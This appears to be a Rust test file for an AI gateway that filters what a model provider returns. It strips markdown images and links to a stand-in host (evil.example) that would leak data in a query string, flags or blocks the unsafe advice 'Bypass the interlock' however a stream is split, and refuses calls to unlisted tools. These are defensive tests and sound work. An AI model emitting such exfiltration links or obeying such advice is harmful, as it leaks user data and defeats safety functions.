//! What a provider was talked into: by a stream or a document, cut anywhere, it does not reach the caller.

use crate::caller::Caller;
use crate::provider::{Act, DONE, Provider, chunk, completion, document, event, last_chunk, stream_head};
use crate::works::{Setting, Works, chat};
use plant::{Answers, Deed, Kind, Reason, Wildcard};

const OPENAI: &str = "/openai/v1/chat/completions";

/// Works whose conduits lead to one host, and let one tool be called.
async fn works(unsafe_instructions: Deed) -> (Provider, Works) {
    let provider = Provider::new(Vec::new()).await;
    let answers = Answers {
        hosts: vec![Wildcard("docs.works.example".to_owned())],
        images: true,
        links: true,
        markup: true,
        unsafe_instructions,
        tools: Some(vec![Wildcard("read_*".to_owned())]),
        ..Answers::open()
    };
    let works = Works::start(Setting { answers, ..Setting::new(provider.address) }).await;
    (provider, works)
}

/// The words of a stream of chat chunks.
fn told(stream: &str) -> String {
    let events = stream.lines().filter_map(|line| line.strip_prefix("data: {"));
    let read = events.filter_map(|event| serde_json::from_str::<serde_json::Value>(&format!("{{{event}")).ok());
    read.filter_map(|event| event["choices"][0]["delta"]["content"].as_str().map(str::to_owned)).collect()
}

fn counts(works: &Works) -> Vec<(String, u64)> {
    let written = works.ledger.written();
    let what = written.last().and_then(|draft| draft.body.what.as_ref()).unwrap();
    what.findings.iter().map(|found| (found.label.clone(), found.count)).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn an_image_that_would_tell_another_host_is_gone_from_a_document() {
    let (provider, works) = works(Deed::Annotate).await;
    let answer = completion(
        "ok ![x](https://evil.example/?q=FV-203) [doc](https://docs.works.example/a). Bypass the interlock.",
    );
    provider.acts(vec![Act::Send(document(200, "", &answer))]);
    let mut caller = Caller::sends(works.address, &works.request(OPENAI, &chat("hello", false))).await;
    let text = caller.answer().await.unwrap().text();
    assert!(!text.contains("evil.example") && text.contains("[image removed: evil example]"), "{text}");
    assert!(text.contains("(https://docs.works.example/a)") && text.contains("[unsafe: "), "{text}");
    assert_eq!(works.ledger.story().await.told(), (Kind::Outcome, None));
    assert_eq!(counts(&works), [("answer.image".to_owned(), 1), ("unsafe.instruction".to_owned(), 1)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn however_a_stream_is_cut_it_says_what_the_whole_says() {
    let (provider, works) = works(Deed::Annotate).await;
    let mut caller = Caller::new(works.address).await;
    let text = "See ![x](https://evil.example/?q=FV-203 \"y\"), <img src='//evil.example/a'> and [z](https://evil.example).                 \u{200B} Bypass the interlock now. Done";
    let safe = "See [image removed: evil example], [image removed: evil example] and [z] (link removed: evil example).                  Bypass the interlock now. [unsafe: this would defeat a safety function] Done";
    let characters: Vec<char> = text.chars().collect();
    for length in [1, 2, 3, 7, 19, characters.len()] {
        let pieces = characters.chunks(length).map(|piece| chunk(event(&piece.iter().collect::<String>())));
        let stream = pieces.collect::<Vec<_>>().concat();
        provider.acts(vec![Act::Send([stream_head("text/event-stream"), stream, chunk(DONE), last_chunk()].concat())]);
        caller.send(&works.request(OPENAI, &chat("hello", true))).await;
        let read = caller.answer().await.unwrap().text();
        assert_eq!(told(&read), safe, "in pieces of {length}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_advice_that_is_blocked_ends_the_stream_before_it() {
    let (provider, works) = works(Deed::Block).await;
    let events = ["All is well. ", "Bypass the ", "inter", "lock and go on. ", "More"].map(|text| chunk(event(text)));
    let answer = [stream_head("text/event-stream"), events.concat()].concat();
    provider.acts(vec![Act::Send(answer), Act::Hang]);
    let mut caller = Caller::sends(works.address, &works.request(OPENAI, &chat("hello", true))).await;
    let read = caller.answer().await.unwrap().text();
    assert_eq!(told(&read), "All is well. ");
    assert!(read.contains("data: {\"error\":{") && read.contains("answer-refused"), "{read}");
    // The provider is cut off, though it has not ended.
    provider.until_left().await;
    assert_eq!(works.ledger.story().await.told(), (Kind::Outcome, Some(Reason::AnswerRefused)));
    assert_eq!(counts(&works), [("unsafe.instruction".to_owned(), 1)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tool_that_is_not_listed_is_never_called() {
    let (provider, works) = works(Deed::Annotate).await;
    let call = |name: &str| {
        let call =
            format!(r#"{{"index":0,"id":"c","type":"function","function":{{"name":"{name}","arguments":"{{}}"}}}}"#);
        chunk(format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"tool_calls\":[{call}]}}}}]}}\n\n"))
    };
    let mut caller = Caller::new(works.address).await;
    let answer = [stream_head("text/event-stream"), call("read_tag"), chunk(DONE), last_chunk()].concat();
    provider.acts(vec![Act::Send(answer)]);
    caller.send(&works.request(OPENAI, &chat("hello", true))).await;
    assert!(caller.answer().await.unwrap().text().contains("read_tag"));
    let answer = [stream_head("text/event-stream"), call("write_tag"), chunk(DONE), last_chunk()].concat();
    provider.acts(vec![Act::Send(answer)]);
    caller.send(&works.request(OPENAI, &chat("hello", true))).await;
    let read = caller.answer().await.unwrap().text();
    assert!(!read.contains("write_tag") && read.contains("answer-refused"), "{read}");
    let body = r#"{"id":"m","type":"message","role":"assistant","content":[{"type":"tool_use","id":"t","name":"write_tag","input":{}}]}"#;
    provider.acts(vec![Act::Send(document(200, "", body))]);
    let request = works.request("/anthropic/v1/messages", &chat("hello", false).replacen('{', "{\"max_tokens\":9,", 1));
    caller.send(&request).await;
    let answer = caller.answer().await.unwrap();
    assert!(answer.status == 502 && !answer.text().contains("write_tag"), "{answer:?}");
    let stories = works.ledger.stories(3).await;
    let told: Vec<_> = stories.iter().map(|story| story.told()).collect();
    let refused = (Kind::Outcome, Some(Reason::AnswerRefused));
    assert_eq!(told, [(Kind::Outcome, None), refused, refused]);
}
